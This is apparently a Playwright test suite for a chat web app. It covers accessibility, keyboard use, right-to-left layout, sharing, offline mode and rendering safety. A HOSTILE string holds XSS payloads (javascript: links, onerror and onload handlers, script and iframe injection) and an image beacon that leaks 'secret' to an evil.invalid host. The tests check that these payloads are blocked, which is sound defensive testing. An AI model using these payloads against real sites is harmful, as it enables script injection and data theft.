"""The app as a person meets it: every page for axe, by keyboard alone, from right to left, on a phone, without a network."""

import re
import sqlite3
from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.browser.axe import violations
from tests.browser.conftest import ECHO, LETTERS, QUICK, sign_in
from tests.browser.layout import fits
from tests.browser.test_conversation import answers, begin, choose, ended, say
from tests.browser.ways import SCHEMES, Scheme, turn
from tests.live import Live

pytestmark = pytest.mark.browser

PAGES = {
    "/": "Message",
    "/library": "All conversations",
    "/playground": "Playground",
    "/search?q=word": "Search conversations",
    "/settings/profile": "Profile",
    "/settings/appearance": "Theme",
    "/settings/models": "Models",
    "/bots": "Bots",
    "/settings/keys": "API keys",
    "/settings/sessions": "Sign-ins",
    "/settings/data": "Take everything along",
    "/settings/workspace": "Workspace",
    "/nowhere/at/all": "nothing at this address",
}
RICH = """# Title

A **bold** [link](https://example.com), `code` and $e^x$.

| a | b |
|---|---|
| 1 | 2 |

- [x] done

```python
print("x")
```

> quoted[^1]

[^1]: A note.
"""
HOSTILE = """[x](javascript:__pwn=1) <img src=x onerror=__pwn=1> <svg onload=__pwn=1>

![p](https://evil.invalid/p.png?d=secret)

<script>__pwn=1</script>

```mermaid
graph TD; A[<img src=x onerror=__pwn=1>]-->B
```

$\\href{javascript:__pwn=1}{x}$ <iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>

[r]: javascript:__pwn=1
[a][r] <details open ontoggle=__pwn=1> | <a href=javascript:__pwn=1>b</a>
"""
NO_TRESPASSER = """() => [...document.querySelectorAll("main *")].flatMap((element) => [...element.attributes]
    .filter(({ name, value }) => name.startsWith("on") || /^\\s*javascript:/i.test(value) || name === "srcdoc")
    .map(({ name, value }) => `${element.tagName} ${name}=${value}`))"""


@pytest.mark.parametrize("scheme", SCHEMES)
def test_axe_finds_nothing_on_any_page(page: Page, scheme: Scheme) -> None:
    turn(page, scheme)
    found = {}
    for path, words in PAGES.items():
        page.goto(path)
        expect(page.get_by_text(words).or_(page.get_by_placeholder(words)).first).to_be_visible()
        found[path] = violations(page)
    begin(page, ECHO, RICH)
    ended(answers(page).last)
    page.mouse.move(0, 0)  # no hint under the pointer, half faded in
    expect(answers(page).last.locator(".katex").first).to_be_visible()
    found["a conversation"] = violations(page)
    for key, dialog in {"Control+k": "Commands", "Control+/": "Keyboard shortcuts"}.items():
        page.keyboard.press(key)
        expect(page.get_by_role("dialog", name=dialog)).to_be_visible()
        found[dialog] = violations(page)
        page.keyboard.press("Escape")
        expect(page.get_by_role("dialog", name=dialog)).to_have_count(0)
    assert {where: wrong for where, wrong in found.items() if wrong} == {}


def test_axe_finds_nothing_at_the_door_nor_on_a_phone(chromium: Browser, live: Live) -> None:
    context = chromium.new_context(base_url=live.address, viewport={"width": 360, "height": 740}, has_touch=True)
    page = context.new_page()
    page.goto("/")
    expect(page.get_by_role("button", name="Sign in")).to_be_visible()
    assert violations(page) == []
    sign_in(page, live)
    assert violations(page) == []
    page.get_by_role("button", name="Open sidebar").click()
    expect(page.get_by_role("dialog", name="Conversations and account")).to_be_visible()
    assert violations(page) == []
    fits(page, 360)
    context.close()


def test_hostile_markdown_does_nothing_at_any_letter(page: Page) -> None:
    foreign: list[str] = []
    page.on("request", lambda request: foreign.append(request.url) if "evil" in request.url else None)
    answer = begin(page, LETTERS, HOSTILE)
    while answer.get_attribute("data-status") not in ("completed", "failed"):
        assert page.evaluate(NO_TRESPASSER) == []
    ended(answer)
    page.wait_for_timeout(1000)
    assert page.evaluate(NO_TRESPASSER) == []
    assert page.evaluate("window.__pwn") is None
    assert all(frame.evaluate("window.__pwn") is None for frame in page.frames)
    assert foreign == []


def test_a_diagram_is_drawn_where_it_can_reach_nothing(page: Page) -> None:
    answer = begin(page, ECHO, "```mermaid\ngraph LR\n  A --> B\n```")
    ended(answer)
    frame = page.frame_locator("iframe[title=Diagram]")
    expect(frame.locator("svg")).to_be_visible()
    inside = next(frame for frame in page.frames if "sandbox" in frame.url)
    for reach in ("parent.document.title", "localStorage.length", "document.cookie"):
        assert (
            inside.evaluate(f"() => {{ try {{ return String({reach}) }} catch {{ return 'refused' }} }}") == "refused"
        )
    called = inside.evaluate("() => fetch('/api/v1/me', {credentials: 'include'}).then(() => 'came', () => 'refused')")
    assert called == "refused"


def test_a_whole_talk_by_keyboard_alone(page: Page) -> None:
    page.goto("/")
    expect(page.get_by_role("textbox", name="Message", exact=True)).to_be_focused()
    page.keyboard.type("@mock-echo")
    expect(page.get_by_role("menuitem", name=ECHO)).to_be_visible()
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name=f"Bot or model: {ECHO}")).to_be_visible()
    page.keyboard.type("by hand")
    page.keyboard.press("Enter")
    ended(answers(page).last)
    expect(answers(page).last).to_contain_text("by hand")
    page.keyboard.press("ArrowUp")
    expect(page.get_by_role("textbox", name="Edit message")).to_be_focused()
    page.keyboard.press("Control+a")
    page.keyboard.type("by heart")
    page.keyboard.press("Enter")
    expect(answers(page).last).to_contain_text("by heart")
    ended(answers(page).last)
    page.keyboard.press("Control+k")
    expect(page.get_by_role("combobox", name="Commands")).to_be_focused()
    page.keyboard.type("new chat")
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile(r"/$"))


def test_another_language_turns_the_app_around(page: Page) -> None:
    page.goto("/settings/appearance")
    page.get_by_role("combobox", name="Language").click()
    page.get_by_role("option", name="العربية").click()
    expect(page.locator("html")).to_have_attribute("dir", "rtl")
    expect(page.get_by_role("button", name="محادثة جديدة").first).to_be_visible()
    nav = page.get_by_role("navigation").first.bounding_box()
    assert nav
    assert nav["x"] > 640, "the sidebar stands where reading begins: on the right"
    page.reload()
    expect(page.get_by_role("button", name="محادثة جديدة").first).to_be_visible()
    assert violations(page) == []
    page.evaluate("localStorage.removeItem('parley.locale')")


def test_what_is_deleted_can_be_taken_back_and_otherwise_goes(page: Page, live: Live) -> None:
    begin(page, ECHO, "to be deleted")
    ended(answers(page).last)
    page.goto("/library")
    page.get_by_role("checkbox", name="Choose to be deleted").check()
    page.get_by_role("toolbar").get_by_role("button", name="Delete").click()
    expect(page.get_by_role("checkbox", name="Choose to be deleted")).to_have_count(0)
    page.get_by_role("button", name="Undo").click()
    expect(page.get_by_role("checkbox", name="Choose to be deleted")).to_be_visible()
    page.get_by_role("checkbox", name="Choose to be deleted").check()
    page.get_by_role("toolbar").get_by_role("button", name="Delete").click()
    expect(page.get_by_role("checkbox", name="Choose to be deleted")).to_have_count(0)
    page.goto("/")
    deleted = "SELECT count(*) FROM conversations_conversation WHERE title = 'to be deleted'"
    for _ in range(100):
        if live.rows(deleted) == [(0,)]:
            return
        page.wait_for_timeout(100)
    raise AssertionError("it was not deleted when the page was left")


def share(page: Page) -> str:
    """Make a link to the conversation that is open; its path."""
    page.get_by_role("banner").get_by_role("button", name="Menu of").click()
    page.get_by_role("menuitem", name="Share").click()
    with page.expect_response(lambda answer: answer.request.method == "POST" and "/shares" in answer.url) as made:
        page.get_by_role("button", name="Make link").click()
    return f"/shared/{made.value.json()['token']}"


def end_by_hand(page: Page, live: Live) -> None:
    with page.expect_response(lambda answer: answer.request.method == "DELETE" and "/shares/" in answer.url):
        page.get_by_role("button", name="End", exact=True).click()
    expect(page.get_by_role("button", name="End", exact=True)).to_have_count(0)


def let_its_day_pass(page: Page, live: Live) -> None:
    with sqlite3.connect(live.folder / "parley.sqlite3", timeout=20) as database:
        database.execute("UPDATE conversations_share SET expires_at = '2020-01-01 00:00:00'")


@pytest.mark.parametrize("end", [end_by_hand, let_its_day_pass])
def test_a_shared_link_shows_a_stranger_the_picture_until_it_has_ended(
    page: Page, chromium: Browser, live: Live, end: Callable[[Page, Live], None]
) -> None:
    begin(page, ECHO, "worth showing")
    ended(answers(page).last)
    link = share(page)
    stranger = chromium.new_context(base_url=live.address).new_page()
    stranger.goto(link)
    expect(stranger.get_by_role("article", name="Answer")).to_contain_text("worth showing")
    assert violations(stranger) == []
    end(page, live)
    stranger.reload()
    expect(stranger.get_by_role("alert")).to_contain_text("leads nowhere")
    stranger.context.close()


def test_a_temporary_chat_stands_in_no_list(page: Page) -> None:
    page.goto("/")
    page.get_by_role("button", name="Temporary chat").click()
    choose(page, ECHO)
    say(page, "between us")
    ended(answers(page).last)
    expect(page.get_by_text("Temporary", exact=True)).to_be_visible()
    expect(page.get_by_role("navigation").get_by_text("between us")).to_have_count(0)
    page.get_by_role("button", name="Keep it").click()
    expect(page.get_by_role("navigation").get_by_role("link", name="between us")).to_be_visible()
    page.goto("/library")
    expect(page.get_by_role("main").get_by_role("link", name="between us")).to_be_visible()


def test_a_fork_goes_its_own_way(page: Page) -> None:
    begin(page, QUICK, "the trunk")
    ended(answers(page).last)
    trunk = page.url
    page.get_by_role("button", name="Go on in a new conversation").click()
    expect(page).not_to_have_url(trunk)
    expect(answers(page)).to_have_count(1)
    say(page, "the branch")
    expect(answers(page)).to_have_count(2)
    page.goto(trunk)
    expect(answers(page)).to_have_count(1)


def test_two_answers_stand_beside_each_other(page: Page) -> None:
    begin(page, QUICK, "compare this")
    ended(answers(page).last)
    page.get_by_role("button", name="Answer again with").click()
    page.get_by_role("menuitem", name=ECHO).click()
    expect(answers(page).last).to_contain_text("compare this")
    ended(answers(page).last)
    page.get_by_role("button", name="Compare answers").click()
    dialog = page.get_by_role("dialog", name="Compare answers")
    expect(dialog.get_by_role("button", name="This one is shown")).to_be_visible()
    dialog.get_by_role("button", name="Go on with this one").click()
    expect(answers(page).last).to_contain_text("w1")


def test_the_app_can_be_installed_with_icons_of_the_sizes_that_are_told(page: Page) -> None:
    told = page.evaluate("fetch('/manifest.webmanifest').then((answer) => answer.json())")
    assert (told["display"], told["start_url"]) == ("standalone", "/")
    touch = page.locator("link[rel=apple-touch-icon]").get_attribute("href")
    icons = [(icon["src"], icon["sizes"]) for icon in told["icons"]] + [(touch, "180x180")]
    widths = "async (src) => { const image = new Image(); image.src = src; await image.decode(); return image.width; }"
    drawn = {src: page.evaluate(widths, src) for src, _ in icons}
    assert {size for _, size in icons} >= {"192x192", "512x512"}
    assert [src for src, size in icons if size != "any" and drawn[src] != int(size.partition("x")[0])] == []
    assert page.evaluate("navigator.serviceWorker.ready.then((ready) => new URL(ready.scope).pathname)") == "/"


def test_without_a_network_the_app_opens_and_says_so(page: Page, context: BrowserContext) -> None:
    page.goto("/")
    page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    page.reload()
    expect(page.get_by_role("textbox", name="Message", exact=True)).to_be_visible()
    page.evaluate("fetch('/').then(() => true)")
    context.set_offline(True)
    page.reload()
    expect(page.get_by_role("alert")).to_contain_text("could not be reached")
    context.set_offline(False)
    page.get_by_role("button", name="Retry").click()
    expect(page.get_by_role("textbox", name="Message", exact=True)).to_be_visible()
